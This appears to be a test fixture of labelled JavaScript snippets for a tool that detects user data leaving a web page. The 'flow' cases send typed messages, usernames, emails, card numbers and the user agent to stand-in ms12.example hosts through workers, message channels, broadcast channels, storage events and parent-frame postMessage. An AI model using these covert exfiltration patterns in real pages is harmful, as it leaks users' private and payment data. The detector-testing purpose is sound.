//# worker-remote-call
// flow: message > wrc.ms12.example via fetch
const src = `
  const api = {
    post: (v) => fetch('https://wrc.ms12.example/w', { method: 'POST', body: v }).then(() => 'ok'),
    size: (v) => v.length,
  };
  self.onmessage = async ({ data: { id, method, args } }) => {
    self.postMessage({ id, result: await api[method](...args) });
  };`;
const worker = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
let seq = 0;
const waiting = new Map();
worker.onmessage = ({ data }) => { waiting.get(data.id)(data.result); waiting.delete(data.id); };
const call = (method, ...args) => new Promise((ok) => {
  const id = ++seq;
  waiting.set(id, ok);
  worker.postMessage({ id, method, args });
});
call('post', document.querySelector('textarea[name=message]').value);

//# near-worker-remote-call-of-another
// no flow
// why: the message is measured in the worker; what is posted is a constant
const src = `
  const api = {
    post: (v) => fetch('https://nwr.ms12.example/w', { method: 'POST', body: v }).then(() => 'ok'),
    size: (v) => v.length,
  };
  self.onmessage = async ({ data: { id, method, args } }) => {
    self.postMessage({ id, result: await api[method](...args) });
  };`;
const worker = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
worker.onmessage = ({ data }) => { document.querySelector('#n').textContent = data.result; };
worker.postMessage({ id: 1, method: 'size', args: [document.querySelector('textarea[name=message]').value] });
worker.postMessage({ id: 2, method: 'post', args: ['hello'] });

//# broadcast-by-type
// flow: username > bbt.ms12.example via fetch
const rx = new BroadcastChannel('session');
rx.onmessage = (ev) => {
  switch (ev.data.type) {
    case 'login':
      fetch('https://bbt.ms12.example/l', { method: 'POST', body: ev.data.user });
      break;
    case 'logout':
      location.reload();
      break;
  }
};
const tx = new BroadcastChannel('session');
document.querySelector('#go').onclick = () => tx.postMessage({ type: 'login', user: document.querySelector('input[name=username]').value });

//# near-broadcast-of-the-type-only
// no flow
// why: of the message only its type is sent
const rx = new BroadcastChannel('session');
rx.addEventListener('message', (ev) => navigator.sendBeacon('https://nbt.ms12.example/l', ev.data.type));
const tx = new BroadcastChannel('session');
document.querySelector('#go').onclick = () => tx.postMessage({ type: 'login', user: document.querySelector('input[name=username]').value });

//# port-handed-to-worker
// flow: email > phw.ms12.example via fetch
const code = `onmessage = (e) => {
  const port = e.data.port;
  port.onmessage = (m) => fetch('https://phw.ms12.example/p', { method: 'POST', body: m.data });
};`;
const wk = new Worker(URL.createObjectURL(new Blob([code])));
const ch = new MessageChannel();
wk.postMessage({ port: ch.port2 }, [ch.port2]);
document.querySelector('input[type=email]').onchange = (e) => ch.port1.postMessage(e.target.value);

//# near-port-of-another-channel
// no flow
// why: the address goes into a channel whose other end is kept in the page
const code = `onmessage = (e) => {
  const port = e.data.port;
  port.onmessage = (m) => fetch('https://npc.ms12.example/p', { method: 'POST', body: m.data });
};`;
const wk = new Worker(URL.createObjectURL(new Blob([code])));
const ch = new MessageChannel(), local = new MessageChannel();
wk.postMessage({ port: ch.port2 }, [ch.port2]);
ch.port1.postMessage('hello');
local.port2.onmessage = (m) => { document.querySelector('#n').textContent = m.data; };
document.querySelector('input[type=email]').onchange = (e) => local.port1.postMessage(e.target.value);

//# card-to-parent
// flow: card > ctp.ms12.example via postmessage
document.querySelector('input[autocomplete=cc-number]').addEventListener('change', function () {
  window.parent.postMessage(JSON.stringify({ type: 'value', v: this.value }), 'https://ctp.ms12.example');
});

//# near-only-validity-to-parent
// no flow
document.querySelector('input[autocomplete=cc-number]').addEventListener('change', function () {
  var ok = this.value.length === 16;
  window.parent.postMessage(JSON.stringify({ type: 'valid', v: ok }), 'https://nov.ms12.example');
});

//# shared-worker-port
// flow: device > swp.ms12.example via fetch
const shared = new SharedWorker(URL.createObjectURL(new Blob([
  `onconnect = (c) => { c.ports[0].onmessage = (e) => fetch('https://swp.ms12.example/d', { method: 'POST', body: e.data }); };`,
])));
shared.port.postMessage(navigator.userAgent);

//# storage-event-of-another-tab
// flow: email > sea.ms12.example via beacon
// why: another tab of the same page hears what is stored
document.querySelector('input[type=email]').onchange = (e) => localStorage.setItem('lead-mail', e.target.value);
window.addEventListener('storage', (ev) => {
  if (ev.key === 'lead-mail') navigator.sendBeacon('https://sea.ms12.example/s', ev.newValue);
});

//# near-storage-event-of-another-key
// no flow
document.querySelector('input[type=email]').onchange = (e) => sessionStorage.setItem('lead-mail', e.target.value);
document.querySelector('#theme').onchange = () => localStorage.setItem('theme', 'dark');
window.addEventListener('storage', (ev) => {
  if (ev.key === 'theme') navigator.sendBeacon('https://nse.ms12.example/s', ev.newValue);
});
